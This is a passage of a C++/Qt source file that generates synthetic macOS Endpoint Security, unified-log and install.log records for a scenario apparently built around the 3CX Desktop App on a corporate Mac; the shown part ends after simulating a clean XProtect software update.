#include "macscenario.h"

#include "outputfile.h"
#include "splitmix.h"

#include <QCryptographicHash>
#include <QDir>
#include <QHash>

#include <algorithm>

namespace Chainscope {

namespace {

constexpr qint64 Us = 1000; // in nanoseconds: the generator keeps time in ns
constexpr qint64 Ms = 1000 * Us;
constexpr qint64 Second = 1000 * Ms;
constexpr qint64 Minute = 60 * Second;
constexpr qint64 Hour = 60 * Minute;

// The host's zone in March (Europe/Berlin before the change to summer time).
constexpr int LocalOffsetSeconds = 3600;

// Bits of XNU's cs_blobs.h that the processes here carry.
constexpr quint32 CsValid = 0x1;
constexpr quint32 CsAdhoc = 0x2;
constexpr quint32 CsHard = 0x100;
constexpr quint32 CsKill = 0x200;
constexpr quint32 CsRestrict = 0x800;
constexpr quint32 CsEnforcement = 0x1000;
constexpr quint32 CsRequireLv = 0x2000;
constexpr quint32 CsRuntime = 0x10000;
constexpr quint32 CsLinkerSigned = 0x20000;
constexpr quint32 CsDyldPlatform = 0x2000000;
constexpr quint32 CsPlatformBinary = 0x4000000;
constexpr quint32 CsSigned = 0x20000000;
// An Apple platform binary; a Developer ID app with the hardened runtime (with or without
// library validation); code the linker signed ad hoc (Go, Homebrew's portable Ruby).
constexpr quint32 PlatformFlags
    = CsValid | CsKill | CsRestrict | CsEnforcement | CsRequireLv | CsDyldPlatform | CsPlatformBinary | CsSigned;
constexpr quint32 DeveloperIdFlags = CsValid | CsHard | CsKill | CsEnforcement | CsRuntime | CsSigned;
constexpr quint32 DeveloperIdLvFlags = DeveloperIdFlags | CsRequireLv;
constexpr quint32 LinkerAdhocFlags = CsValid | CsAdhoc | CsLinkerSigned | CsSigned;

// es_event_type_t of the notify events written here.
enum EsType {
    EsExec = 9,
    EsClose = 12,
    EsCreate = 13,
    EsExit = 15,
    EsFork = 11,
    EsMmap = 20,
    EsRename = 25,
    EsWrite = 33
};

// ---- a small JSON writer that keeps the order of the keys ---------------------------

QByteArray jsonString(const QString &s)
{
    QByteArray out = "\"";
    for (const QChar c : s) {
        const char16_t u = c.unicode();
        if (u == u'"')
            out += "\\\"";
        else if (u == u'\\')
            out += "\\\\";
        else if (u == u'\n')
            out += "\\n";
        else if (u == u'\t')
            out += "\\t";
        else if (u < 0x20)
            out += QStringLiteral("\\u%1").arg(int(u), 4, 16, QLatin1Char('0')).toLatin1();
        else
            out += QString(c).toUtf8();
    }
    return out + '"';
}

class Obj
{
public:
    Obj &raw(const char *key, const QByteArray &json)
    {
        m_text += (m_text.isEmpty() ? "" : ",") + jsonString(QLatin1String(key)) + ':' + json;
        return *this;
    }
    Obj &str(const char *key, const QString &value) { return raw(key, jsonString(value)); }
    Obj &strOrNull(const char *key, const QString &value)
    {
        return raw(key, value.isEmpty() ? QByteArray("null") : jsonString(value));
    }
    Obj &num(const char *key, qint64 value) { return raw(key, QByteArray::number(value)); }
    Obj &boolean(const char *key, bool value) { return raw(key, value ? "true" : "false"); }
    Obj &obj(const char *key, const Obj &value) { return raw(key, value.json()); }
    QByteArray json() const { return '{' + m_text + '}'; }

private:
    QByteArray m_text;
};

QByteArray jsonArray(const QStringList &items)
{
    QByteArray out = "[";
    for (qsizetype i = 0; i < items.size(); ++i)
        out += (i ? "," : "") + jsonString(items.at(i));
    return out + ']';
}

// ---- time -----------------------------------------------------------------------------

QDateTime utc(qint64 ns)
{
    return QDateTime::fromMSecsSinceEpoch(ns / Ms, Qt::UTC);
}

// eslogger: "2026-03-02T09:20:11.123456789Z".
QString esTime(qint64 ns)
{
    return utc(ns).toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss."))
        + QStringLiteral("%1Z").arg(ns % Second, 9, 10, QLatin1Char('0'));
}

// stat timestamps: whole seconds are enough for files.
QString esStatTime(qint64 ns)
{
    return utc(ns).toString(QStringLiteral("yyyy-MM-ddTHH:mm:ssZ"));
}

QDateTime local(qint64 ns)
{
    return utc(ns).toOffsetFromUtc(LocalOffsetSeconds);
}

// log show: "2026-03-02 10:20:11.123456+0100".
QString logTime(qint64 ns)
{
    return local(ns).toString(QStringLiteral("yyyy-MM-dd HH:mm:ss."))
        + QStringLiteral("%1+0100").arg((ns % Second) / Us, 6, 10, QLatin1Char('0'));
}

// install.log: "2026-03-02 10:07:13+01".
QString installTime(qint64 ns)
{
    return local(ns).toString(QStringLiteral("yyyy-MM-dd HH:mm:ss")) + QStringLiteral("+01");
}

QByteArray digest(const QString &key, QCryptographicHash::Algorithm a)
{
    return QCryptographicHash::hash(key.toUtf8(), a);
}

// Stable stand-ins: the same file version always has the same cdhash, inode, UUID.
QString cdhashOf(const QString &path, const QString &version)
{
    return QString::fromLatin1(digest(path + u'|' + version, QCryptographicHash::Sha1).toHex());
}

QString uuidOf(const QString &key)
{
    const QByteArray h = digest(key, QCryptographicHash::Md5).toHex().toUpper();
    return QStringLiteral("%1-%2-%3-%4-%5")
        .arg(QLatin1String(h.mid(0, 8)), QLatin1String(h.mid(8, 4)), QLatin1String(h.mid(12, 4)),
            QLatin1String(h.mid(16, 4)), QLatin1String(h.mid(20, 12)));
}

qint64 numberOf(const QString &key, qint64 modulo)
{
    const QByteArray h = digest(key, QCryptographicHash::Md5);
    quint64 v = 0;
    for (int i = 0; i < 8; ++i)
        v = (v << 8) | quint8(h.at(i));
    return qint64(v % quint64(modulo));
}

QString fileNameOf(const QString &path)
{
    return path.mid(path.lastIndexOf(u'/') + 1);
}

QString dirOf(const QString &path)
{
    return path.left(path.lastIndexOf(u'/'));
}

// ---- Endpoint Security -----------------------------------------------------------------

struct Token
{
    qint64 pid = 0;
    qint64 pidversion = 0;
    int uid = 0;
    qint64 asid = 0;
};

struct Proc
{
    Token token;
    qint64 ppid = 0;
    qint64 originalPpid = 0;
    Token parent;
    Token responsible;
    QString path;
    QString version; // of the image, for its cdhash and stat
    QString signingId;
    QString teamId;
    bool platform = false;
    quint32 flags = 0;
    qint64 startNs = 0;
    qint64 groupId = 0;
    qint64 sessionId = 0;
    QString tty;
};

struct EsEvent
{
    qint64 ns = 0;
    int type = 0;
    QByteArray process;
    const char *name = "";
    QByteArray body;
    qint64 thread = 0;
};

class EsLog
{
public:
    EsLog(SplitMix64 &rng, qint64 bootNs, qint64 firstPid, qint64 firstPidversion)
        : m_rng(rng)
        , m_bootNs(bootNs)
        , m_nextPid(firstPid)
        , m_nextPidversion(firstPidversion)
    {
    }

    // A process that was running when the capture began.
    static Proc existing(qint64 pid, qint64 pidversion, const QString &path, const QString &signingId, qint64 startNs,
        int uid, const Token &parent, qint64 asid)
    {
        Proc p;
        p.token = {pid, pidversion, uid, asid};
        p.ppid = parent.pid;
        p.originalPpid = parent.pid;
        p.parent = parent;
        p.responsible = p.token;
        p.path = path;
        p.version = QStringLiteral("14.4");
        p.signingId = signingId;
        p.platform = true;
        p.flags = PlatformFlags;
        p.startNs = startNs;
        p.groupId = pid;
        p.sessionId = pid;
        return p;
    }

    Proc fork(qint64 ns, const Proc &parent)
    {
        Proc child = parent;
        m_nextPid += 1 + qint64(m_rng.next() % 4);
        child.token.pid = m_nextPid;
        child.token.pidversion = ++m_nextPidversion;
        child.ppid = parent.token.pid;
        child.originalPpid = parent.token.pid;
        child.parent = parent.token;
        child.startNs = ns;
        // launchd's children are responsible for themselves (an app, a daemon); others
        // inherit their parent's responsible process.
        child.responsible = parent.token.pid == 1 ? child.token : parent.responsible;
        if (parent.token.pid == 1) {
            child.groupId = child.token.pid;
            child.sessionId = child.token.pid;
        }
        add(ns, EsFork, parent, "fork", Obj().raw("child", process(child)).json());
        return child;
    }

    struct Image
    {
        QString path;
        QString version;
        QString signingId;
        QString teamId; // empty: none (platform or ad-hoc)
        bool platform = false;
        quint32 flags = 0;
    };

    // The exec of `image` by `p`: same pid, a new pidversion; returns the new process.
    Proc exec(qint64 ns, const Proc &p, const Image &image, const QStringList &args, const QString &cwd,
        const QString &script = QString(), const QStringList &env = {})
    {
        Proc target = p;
        target.token.pidversion = ++m_nextPidversion;
        target.path = image.path;
        target.version = image.version;
        target.signingId = image.signingId;
        target.teamId = image.teamId;
        target.platform = image.platform;
        target.flags = image.flags;
        if (target.responsible.pid == p.token.pid)
            target.responsible = target.token;
        Obj e;
        // Apple silicon: arm64e for Apple's own code, arm64 for the rest.
        e.str("dyld_exec_path", image.path)
            .raw("script", script.isEmpty() ? QByteArray("null") : file(script, 0100755, 0, ns - Hour, 4096))
            .raw("cwd", file(cwd, 040755, 0, ns - Hour, 0))
            .raw("target", process(target))
            .num("image_cputype", 16777228)
            .num("image_cpusubtype", image.platform ? -2147483646 : 0)
            .num("last_fd", 2)
            .raw("fds", "[{\"fd\":0,\"fdtype\":1},{\"fd\":1,\"fdtype\":1},{\"fd\":2,\"fdtype\":1}]")
            .raw("args", jsonArray(args))
            .raw("env", jsonArray(env));
        add(ns, EsExec, p, "exec", e.json());
        return target;
    }

    void exit(qint64 ns, const Proc &p, int stat = 0) { add(ns, EsExit, p, "exit", Obj().num("stat", stat).json()); }

    void createNew(qint64 ns, const Proc &p, const QString &path, int mode)
    {
        const Obj newPath = Obj()
                                .raw("dir", file(dirOf(path), 040755, p.token.uid, ns - Hour, 0))
                                .str("filename", fileNameOf(path))
                                .num("mode", mode);
        add(ns, EsCreate, p, "create",
            Obj()
                .num("destination_type", 1)
                .raw("destination", Obj().obj("new_path", newPath).json())
                .raw("acl", "null")
                .json());
    }

    void write(qint64 ns, const Proc &p, const QString &path, int mode, qint64 size)
    {
        add(ns, EsWrite, p, "write", Obj().raw("target", file(path, mode, p.token.uid, ns, size)).json());
    }

    void close(qint64 ns, const Proc &p, const QString &path, int mode, qint64 size)
    {
        written(p, path, ns, size);
        add(ns, EsClose, p, "close",
            Obj()
                .boolean("modified", true)
                .raw("target", file(path, mode, p.token.uid, ns, size))
                .boolean("was_mapped_writable", false)
                .json());
    }

    // A new file: create, write, close (what `open(O_CREAT)`, `write` and `close` give).
    void newFile(qint64 ns, const Proc &p, const QString &path, int mode, qint64 size)
    {
        createNew(ns, p, path, mode);
        write(ns + 2 * Ms + qint64(m_rng.next() % 3000) * Us, p, path, 0100000 | mode, size);
        close(ns + 40 * Ms + qint64(m_rng.next() % 20000) * Us, p, path, 0100000 | mode, size);
    }

    // rename(2) of `from` over the existing `to`, or to a new name when `replaces` is false.
    void rename(qint64 ns, const Proc &p, const QString &from, const QString &to, bool replaces, int mode, qint64 size)
    {
        written(p, to, ns, size);
        Obj e;
        e.raw("source", file(from, mode, p.token.uid, ns, size));
        if (replaces) {
            e.num("destination_type", 0)
                .raw("destination",
                    Obj().raw("existing_file", file(to, mode, p.token.uid, ns - 30 * 24 * Hour, size)).json());
        } else {
            e.num("destination_type", 1)
                .raw("destination",
                    Obj()
                        .obj("new_path",
                            Obj()
                                .raw("dir", file(dirOf(to), 040755, p.token.uid, ns - Hour, 0))
                                .str("filename", fileNameOf(to)))
                        .json());
        }
        add(ns, EsRename, p, "rename", e.json());
    }

    // dyld mapping a library's text: PROT_READ|PROT_EXEC of at most rwx, MAP_FIXED|MAP_PRIVATE.
    void mmap(qint64 ns, const Proc &p, const QString &path, qint64 size)
    {
        add(ns, EsMmap, p, "mmap",
            Obj()
                .num("protection", 5)
                .num("max_protection", 7)
                .num("flags", 0x12)
                .num("file_pos", 0)
                .raw("source", file(path, 0100644, 0, ns - 3 * Minute, size))
                .json());
    }

    QByteArray text() const
    {
        QList<EsEvent> sorted = m_events;
        std::stable_sort(sorted.begin(), sorted.end(), [](const EsEvent &a, const EsEvent &b) { return a.ns < b.ns; });
        QByteArray out;
        QHash<int, qint64> perType;
        qint64 global = 0;
        for (const EsEvent &e : sorted) {
            // mach_absolute_time on Apple silicon: 24 MHz since boot.
            const qint64 mach = (e.ns - m_bootNs) / 125 * 3;
            Obj line;
            line.num("schema_version", 1)
                .num("mach_time", mach)
                .num("event_type", e.type)
                .raw("thread", Obj().num("thread_id", e.thread).json())
                .num("version", 7)
                .num("seq_num", perType[e.type]++)
                .raw("event", Obj().raw(e.name, e.body).json())
                .str("time", esTime(e.ns))
                .raw("action", "{\"result\":{\"result\":{\"auth\":0},\"result_type\":0}}")
                .num("action_type", 1)
                .raw("process", e.process)
                .num("global_seq_num", global++);
            out += line.json() + '\n';
        }
        return out;
    }

    QByteArray process(const Proc &p) const
    {
        const QString tty = p.tty;
        Obj o;
        o.strOrNull("signing_id", p.signingId)
            .raw("parent_audit_token", token(p.parent))
            .num("codesigning_flags", p.flags)
            .raw("executable", executable(p.path, p.version))
            .num("ppid", p.ppid)
            .raw("tty", tty.isEmpty() ? QByteArray("null") : file(tty, 020620, p.token.uid, p.startNs, 0))
            .str("start_time",
                esTime(p.startNs).left(19)
                    + QStringLiteral(".%1Z").arg((p.startNs % Second) / Us, 6, 10, QLatin1Char('0')))
            .boolean("is_platform_binary", p.platform)
            .num("group_id", p.groupId)
            .num("session_id", p.sessionId)
            .num("original_ppid", p.originalPpid)
            .str("cdhash", cdhashOf(p.path, p.version))
            .strOrNull("team_id", p.teamId)
            .raw("audit_token", token(p.token))
            .boolean("is_es_client", false)
            .raw("responsible_audit_token", token(p.responsible));
        return o.json();
    }

private:
    static QByteArray token(const Token &t)
    {
        // Daemons started by launchd have no audit user (AU_DEFAUDITID).
        const qint64 auid = t.uid == 0 ? 4294967295LL : t.uid;
        const int gid = t.uid == 0 ? 0 : 20;
        return Obj()
            .num("asid", t.asid)
            .num("pidversion", t.pidversion)
            .num("ruid", t.uid)
            .num("euid", t.uid)
            .num("rgid", gid)
            .num("auid", t.pid == 1 ? 4294967295LL : auid)
            .num("egid", gid)
            .num("pid", t.pid)
            .json();
    }

    // An image as the file system has it: as last written here, else as installed
    // before the capture began (a fixed time and size per file version).
    QByteArray executable(const QString &path, const QString &version) const
    {
        if (const auto it = m_written.constFind(path); it != m_written.constEnd())
            return file(path, 0100755, it->uid, it->mtimeNs, it->size);
        const qint64 installed = m_bootNs - 20 * 24 * Hour - numberOf(path, 400) * Hour;
        return file(path, 0100755, 0, installed, 100000 + numberOf(path + version, 9000000));
    }

    void written(const Proc &p, const QString &path, qint64 ns, qint64 size)
    {
        m_written.insert(path, {ns, size, p.token.uid});
    }

    QByteArray file(const QString &path, int mode, int uid, qint64 mtimeNs, qint64 size) const
    {
        // The sealed system volume and the data volume have their own devices.
        const bool system = path.startsWith(QLatin1String("/System/")) || path.startsWith(QLatin1String("/bin/"))
            || path.startsWith(QLatin1String("/usr/")) || path.startsWith(QLatin1String("/sbin/"));
        const QString t = esStatTime(mtimeNs);
        const Obj stat = Obj()
                             .num("st_blocks", (size + 511) / 512)
                             .num("st_blksize", 4096)
                             .num("st_rdev", 0)
                             .num("st_dev", system ? 16777233 : 16777232)
                             .num("st_uid", uid)
                             .num("st_gid", uid == 0 ? 0 : 20)
                             .num("st_ino", 1000000 + numberOf(path, 90000000))
                             .str("st_birthtimespec", t)
                             .num("st_flags", system ? 0x80000 : 0)
                             .num("st_nlink", 1)
                             .num("st_mode", mode)
                             .str("st_mtimespec", t)
                             .str("st_ctimespec", t)
                             .num("st_size", size)
                             .num("st_gen", 0)
                             .str("st_atimespec", t);
        return Obj().str("path", path).obj("stat", stat).boolean("path_truncated", false).json();
    }

    void add(qint64 ns, int type, const Proc &p, const char *name, const QByteArray &body)
    {
        // One thread per process, as far as these events go.
        const qint64 thread
            = 1000000 + numberOf(QString::number(p.token.pid) + u'/' + QString::number(p.token.pidversion), 9000000);
        m_events.append({ns, type, process(p), name, body, thread});
    }

    SplitMix64 &m_rng;
    qint64 m_bootNs;
    qint64 m_nextPid;
    qint64 m_nextPidversion;
    QList<EsEvent> m_events;
    struct Written
    {
        qint64 mtimeNs = 0;
        qint64 size = 0;
        int uid = 0;
    };
    QHash<QString, Written> m_written;
};

// ---- the unified log -------------------------------------------------------------------

struct LogLine
{
    qint64 ns = 0;
    QByteArray json;
};

class UnifiedLog
{
public:
    UnifiedLog(SplitMix64 &rng, qint64 bootNs, const QString &bootUuid)
        : m_rng(rng)
        , m_bootNs(bootNs)
        , m_bootUuid(bootUuid)
    {
    }

    void add(qint64 ns, qint64 pid, const QString &image, const QString &sender, const QString &subsystem,
        const QString &category, const QString &message, const QString &format,
        const QString &type = QStringLiteral("Default"))
    {
        const QString senderUuid = uuidOf(sender);
        const qint64 offset = 4096 + numberOf(format, 2000000);
        Obj o;
        o.num("traceID", qint64(m_rng.next() >> 8))
            .str("eventMessage", message)
            .str("eventType", QStringLiteral("logEvent"))
            .raw("source", "null")
            .str("formatString", format)
            .num("activityIdentifier", 0)
            .str("subsystem", subsystem)
            .str("category", category)
            .num("threadID", 100000 + numberOf(image + QString::number(pid), 9000000))
            .str("senderImageUUID", senderUuid)
            .raw("backtrace",
                Obj()
                    .raw("frames", '[' + Obj().num("imageOffset", offset).str("imageUUID", senderUuid).json() + ']')
                    .json())
            .str("bootUUID", m_bootUuid)
            .str("processImagePath", image)
            .str("senderImagePath", sender)
            .str("timestamp", logTime(ns))
            .num("machTimestamp", (ns - m_bootNs) / 125 * 3)
            .str("messageType", type)
            .str("processImageUUID", uuidOf(image))
            .num("processID", pid)
            .num("senderProgramCounter", offset)
            .num("parentActivityIdentifier", 0)
            .str("timezoneName", QString());
        m_lines.append({ns, o.json()});
    }

    // Network.framework, in the connecting process: the connection's start with its
    // endpoint, the flow's connect to the resolved address, and its ready state.
    void connection(qint64 ns, qint64 pid, const QString &image, const QString &host, const QString &ip, int port)
    {
        static const QString libnetwork = QStringLiteral("/usr/lib/libnetwork.dylib");
        const int c = ++m_connection;
        const QString context = uuidOf(image + QString::number(c));
        add(ns, pid, image, libnetwork, QStringLiteral("com.apple.network"), QStringLiteral("connection"),
            QStringLiteral("[C%1 %2:%3 tcp, url hash: %4, tls, definite, attribution: developer, context: "
                           "com.apple.CFNetwork.NSURLSession.{%5}{(null)}{Y}{2}{0x0} (private), proc: %6] start")
                .arg(c)
                .arg(host)
                .arg(port)
                .arg(numberOf(host + context, 0xffffffffLL), 8, 16, QLatin1Char('0'))
                .arg(context, uuidOf(image)),
            QStringLiteral("[%{public}s %{private}@ %{public}@] start"));
        add(ns + 40 * Ms, pid, image, libnetwork, QStringLiteral("com.apple.network"), QStringLiteral("connection"),
            QStringLiteral("[C%1.1.1 %2:%3 in_progress channel-flow (satisfied (Path is satisfied), viable, interface: "
                           "en0[802.11], ipv4, dns, uses wifi)] event: flow:start_connect @0.041s")
                .arg(c)
                .arg(ip)
                .arg(port),
            QStringLiteral("[%{public}s %{private}@ %{public}s] event: %{public}s @%.3fs"));
        add(ns + 190 * Ms, pid, image, libnetwork, QStringLiteral("com.apple.network"), QStringLiteral("connection"),
            QStringLiteral("nw_connection_report_state_with_handler_on_nw_queue [C%1] reporting state ready").arg(c),
            QStringLiteral("%{public}s [C%u] reporting state %{public}s"));
    }

    // mDNSResponder's record of a name lookup, naming its client only in the message.
    void lookup(qint64 ns, qint64 clientPid, const QString &clientName, const QString &host)
    {
        static const QString mdns = QStringLiteral("/usr/sbin/mDNSResponder");
        const int r = m_request += 1 + int(m_rng.next() % 7);
        add(ns, 311, mdns, mdns, QStringLiteral("com.apple.mDNSResponder"), QStringLiteral("Default"),
            QStringLiteral("[R%1] getaddrinfo start -- flags: 0xC000D000, ifindex: 0, protocols: 0, hostname: %2, "
                           "options: 0x0 {}, client pid: %3 (%4)")
                .arg(r)
                .arg(host)
                .arg(clientPid)
                .arg(clientName),
            QStringLiteral("[R%u] getaddrinfo start -- flags: 0x%X, ifindex: %d, protocols: %u, hostname: %{private}s, "
                           "options: %{mdns:gaiopts}X, client pid: %d (%{public}s)"));
        add(ns + 30 * Ms + qint64(m_rng.next() % 20000) * Us, 311, mdns, mdns,
            QStringLiteral("com.apple.mDNSResponder"), QStringLiteral("Default"),
            QStringLiteral("[R%1] getaddrinfo stop -- hostname: %2, client pid: %3 (%4)")
                .arg(r)
                .arg(host)
                .arg(clientPid)
                .arg(clientName),
            QStringLiteral("[R%u] getaddrinfo stop -- hostname: %{private}s, client pid: %d (%{public}s)"));
    }

    QByteArray text() const
    {
        QList<LogLine> sorted = m_lines;
        std::stable_sort(sorted.begin(), sorted.end(), [](const LogLine &a, const LogLine &b) { return a.ns < b.ns; });
        QByteArray out;
        for (const LogLine &l : sorted)
            out += l.json + '\n';
        // `log show --style ndjson` ends with its own count.
        return out + Obj().num("count", sorted.size()).num("finished", 1).json() + '\n';
    }

private:
    SplitMix64 &m_rng;
    qint64 m_bootNs;
    QString m_bootUuid;
    QList<LogLine> m_lines;
    int m_connection = 0;
    int m_request = 4000;
};

class InstallLog
{
public:
    explicit InstallLog(const QString &host)
        : m_host(host)
    {
    }
    void add(qint64 ns, const QString &process, qint64 pid, const QString &message)
    {
        m_lines.append({ns,
            QStringLiteral("%1 %2 %3[%4]: %5\n").arg(installTime(ns), m_host, process).arg(pid).arg(message).toUtf8()});
    }
    QByteArray text() const
    {
        QList<LogLine> sorted = m_lines;
        std::stable_sort(sorted.begin(), sorted.end(), [](const LogLine &a, const LogLine &b) { return a.ns < b.ns; });
        QByteArray out;
        for (const LogLine &l : sorted)
            out += l.json;
        return out;
    }

private:
    QString m_host;
    QList<LogLine> m_lines;
};

EsLog::Image platformImage(const QString &path, const QString &signingId)
{
    return {path, QStringLiteral("14.4"), signingId, QString(), true, PlatformFlags};
}

} // namespace

const MacScenarioStory *MacScenario::story(const QString &label) const
{
    for (const MacScenarioStory &s : stories) {
        if (s.label == label)
            return &s;
    }
    return nullptr;
}

const MacScenario::File *MacScenario::file(const QString &suffix) const
{
    for (const File &f : files) {
        if (f.fileName.endsWith(suffix))
            return &f;
    }
    return nullptr;
}

MacScenario buildMacScenario(const MacScenarioOptions &options)
{
    SplitMix64 rng(options.seed ^ 0x6d61636f73ULL); // "macos"
    const auto jitter = [&](qint64 max) {
        return qint64(rng.next() % quint64(max));
    };
    const qint64 t0 = options.start.toMSecsSinceEpoch() * Ms;
    const qint64 boot = t0 - 3 * Hour - jitter(20 * Minute);

    MacScenario scenario;
    scenario.host = QStringLiteral("MBP-DESIGN-03.corp.example");
    scenario.hostShort = QStringLiteral("MBP-DESIGN-03");
    scenario.approvedUpdateHosts = {QStringLiteral("swscan.apple.com"), QStringLiteral("swcdn.apple.com"),
        QStringLiteral("swdist.apple.com"), QStringLiteral("*.3cx.com"), QStringLiteral("github.com"),
        QStringLiteral("*.githubusercontent.com"), QStringLiteral("ghcr.io"), QStringLiteral("formulae.brew.sh")};
    const QString vendorTeam = QStringLiteral("8CX3DESK42");
    const QString foreignTeam = QStringLiteral("J5Q7RZ2KXN");
    scenario.allowedTeamIds = {vendorTeam};
    scenario.brewTapsAllowList = {QStringLiteral("homebrew/core"), QStringLiteral("homebrew/cask")};

    EsLog es(rng, boot, 2100 + jitter(400), 48000 + jitter(4000));
    UnifiedLog ul(rng, boot, uuidOf(QStringLiteral("boot") + QString::number(options.seed)));
    InstallLog install(scenario.hostShort);

    // Running before the capture began.
    const Token kernel {0, 0, 0, 0};
    const Proc launchd = EsLog::existing(
        1, 1, QStringLiteral("/sbin/launchd"), QStringLiteral("com.apple.xpc.launchd"), boot, 0, kernel, 100000);
    const Proc softwareupdated = EsLog::existing(402, 402 + jitter(50),
        QStringLiteral(
            "/System/Library/PrivateFrameworks/SoftwareUpdateCore.framework/Versions/A/Resources/softwareupdated"),
        QStringLiteral("com.apple.softwareupdated"), boot + 20 * Second, 0, launchd.token, 100000);
    const QString mayaHome = QStringLiteral("/Users/maya");
    const QString app = QStringLiteral("/Applications/3CX Desktop App.app/Contents/MacOS/3CX Desktop App");
    Proc oldApp = EsLog::existing(1432, 1500 + jitter(200), app, QStringLiteral("com.electron.3cx-desktop-app"),
        boot + 4 * Minute, 501, launchd.token, 100006);
    oldApp.version = QStringLiteral("18.11.1213");
    oldApp.teamId = vendorTeam;
    oldApp.platform = false;
    oldApp.flags = DeveloperIdFlags;
    Proc zsh = EsLog::existing(1688, 2200 + jitter(200), QStringLiteral("/bin/zsh"), QStringLiteral("com.apple.zsh"),
        boot + 30 * Minute, 501, Token {1684, 2190, 501, 100006}, 100006);
    zsh.ppid = 1684; // login, under Terminal
    zsh.originalPpid = 1684;
    zsh.responsible = Token {1660, 2150, 501, 100006}; // Terminal
    zsh.tty = QStringLiteral("/dev/ttys001");
    zsh.groupId = 1688;
    zsh.sessionId = 1688;
    const QStringList userEnv = {QStringLiteral("HOME=/Users/maya"), QStringLiteral("USER=maya"),
        QStringLiteral("PATH=/opt/homebrew/bin:/opt/homebrew/sbin:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"),
        QStringLiteral("SHELL=/bin/zsh"), QStringLiteral("TMPDIR=/var/folders/x8/3k9v1l2n4q5c7b8d0f6h2j40000gn/T/")};
    const EsLog::Image xpcproxy
        = platformImage(QStringLiteral("/usr/libexec/xpcproxy"), QStringLiteral("com.apple.xpc.proxy"));
    // /bin/sh is a shim that execs the shell /private/var/select/sh names (bash).
    const auto shell = [&](qint64 t, const Proc &forked, const QStringList &args, const QString &cwd) {
        const Proc sh
            = es.exec(t, forked, platformImage(QStringLiteral("/bin/sh"), QStringLiteral("com.apple.sh")), args, cwd);
        return es.exec(
            t + 3 * Ms, sh, platformImage(QStringLiteral("/bin/bash"), QStringLiteral("com.apple.bash")), args, cwd);
    };

    // ---- (c) a clean softwareupdated run ----
    {
        const qint64 tC = t0 + 5 * Minute + jitter(30 * Second);
        const QString updater = softwareupdated.path;
        install.add(tC, QStringLiteral("softwareupdated"), 402,
            QStringLiteral("SUOSUScanController: Scan for client(SUConfigDataClient) started"));
        ul.lookup(tC + 10 * Ms, 402, QStringLiteral("softwareupdated"), QStringLiteral("swscan.apple.com"));
        ul.connection(
            tC + 60 * Ms, 402, updater, QStringLiteral("swscan.apple.com"), QStringLiteral("17.253.53.207"), 443);
        ul.add(tC + 2 * Second, 402, updater, updater, QStringLiteral("com.apple.SoftwareUpdate"), QStringLiteral("SU"),
            QStringLiteral("Scan found 1 config data update: 052-41321 (XProtectPayloads 122)"),
            QStringLiteral("Scan found %d config data update: %{public}@"));
        ul.lookup(tC + 3 * Second, 402, QStringLiteral("softwareupdated"), QStringLiteral("swcdn.apple.com"));
        ul.connection(tC + 3 * Second + 50 * Ms, 402, updater, QStringLiteral("swcdn.apple.com"),
            QStringLiteral("17.253.53.208"), 443);
        install.add(tC + 40 * Second, QStringLiteral("softwareupdated"), 402,
            QStringLiteral("SUOSUServiceDaemon: Installing product 052-41321 (XProtectPayloads 122)"));

        const qint64 tI = tC + 45 * Second + jitter(5 * Second);
        const Proc forked = es.fork(tI, launchd);
        const Proc proxy = es.exec(tI + 2 * Ms, forked, xpcproxy,
            {QStringLiteral("xpcproxy"), QStringLiteral("com.apple.system_installd")}, QStringLiteral("/"));
        const QString systemInstalld = QStringLiteral(
            "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd");
        const Proc installd
            = es.exec(tI + 9 * Ms, proxy, platformImage(systemInstalld, QStringLiteral("com.apple.system_installd")),
                {systemInstalld}, QStringLiteral("/"));
        const qint64 ipid = installd.token.pid;
        const QString sandbox
            = QStringLiteral("/Library/InstallerSandboxes/.PKInstallSandboxManager-SystemSoftware/%1.activeSandbox")
                  .arg(uuidOf(QStringLiteral("sandbox") + QString::number(options.seed)));
        const QString pkg
            = QStringLiteral("file:///Library/Updates/052-41321/XProtectPayloads_10_15.pkg#XProtectPayloads_10_15.pkg");
        const QString receipt = QStringLiteral("com.apple.pkg.XProtectPayloads_10_15.16U4211");
        qint64 t = tI + Second;
        install.add(
            t, QStringLiteral("system_installd"), ipid, QStringLiteral("PackageKit: ----- Begin install -----"));
        install.add(t, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: request=PKInstallRequest <1 packages, destination=/>"));
        install.add(t + 200 * Ms, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: Extracting %1 (destination=%2/Root, uid=0)").arg(pkg, sandbox));
        const QString appDir
            = QStringLiteral("/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/MacOS/");
        const QStringList binaries
            = {appDir + QStringLiteral("XProtect"), appDir + QStringLiteral("XProtectRemediatorAdload")};
        t += 500 * Ms;
        for (const QString &b : binaries) {
            es.newFile(t, installd, sandbox + QStringLiteral("/Root") + b, 0755, 2400000 + numberOf(b, 900000));
            t += 300 * Ms + jitter(200 * Ms);
        }
        install.add(t, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: Shoving %1/Root (2 items) to /").arg(sandbox));
        for (const QString &b : binaries) {
            es.rename(t + 20 * Ms, installd, sandbox + QStringLiteral("/Root") + b, b, true, 0100755,
                2400000 + numberOf(b, 900000));
            t += 30 * Ms;
        }
        install.add(t + 100 * Ms, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: Writing receipt for %1 to /").arg(receipt));
        install.add(t + 150 * Ms, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: Touched bundle /Library/Apple/System/Library/CoreServices/XProtect.app"));
        install.add(t + 200 * Ms, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: Installed \"XProtectPayloads\" (\"122\")"));
        ul.add(t + 200 * Ms, ipid, systemInstalld,
            QStringLiteral("/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/PackageKit"),
            QStringLiteral("com.apple.PackageKit"), QStringLiteral("Install"),
            QStringLiteral("Installed \"XProtectPayloads\" (\"122\")"),
            QStringLiteral("Installed \"%{public}@\" (\"%{public}@\")"));
        install.add(t + 250 * Ms, QStringLiteral("system_installd"), ipid,
            QStringLiteral("PackageKit: ----- End install -----"));
        install.add(t + 600 * Ms, QStringLiteral("softwareupdated"), 402,
            QStringLiteral("SUOSUServiceDaemon: Installed product 052-41321 (XProtectPayloads 122)"));
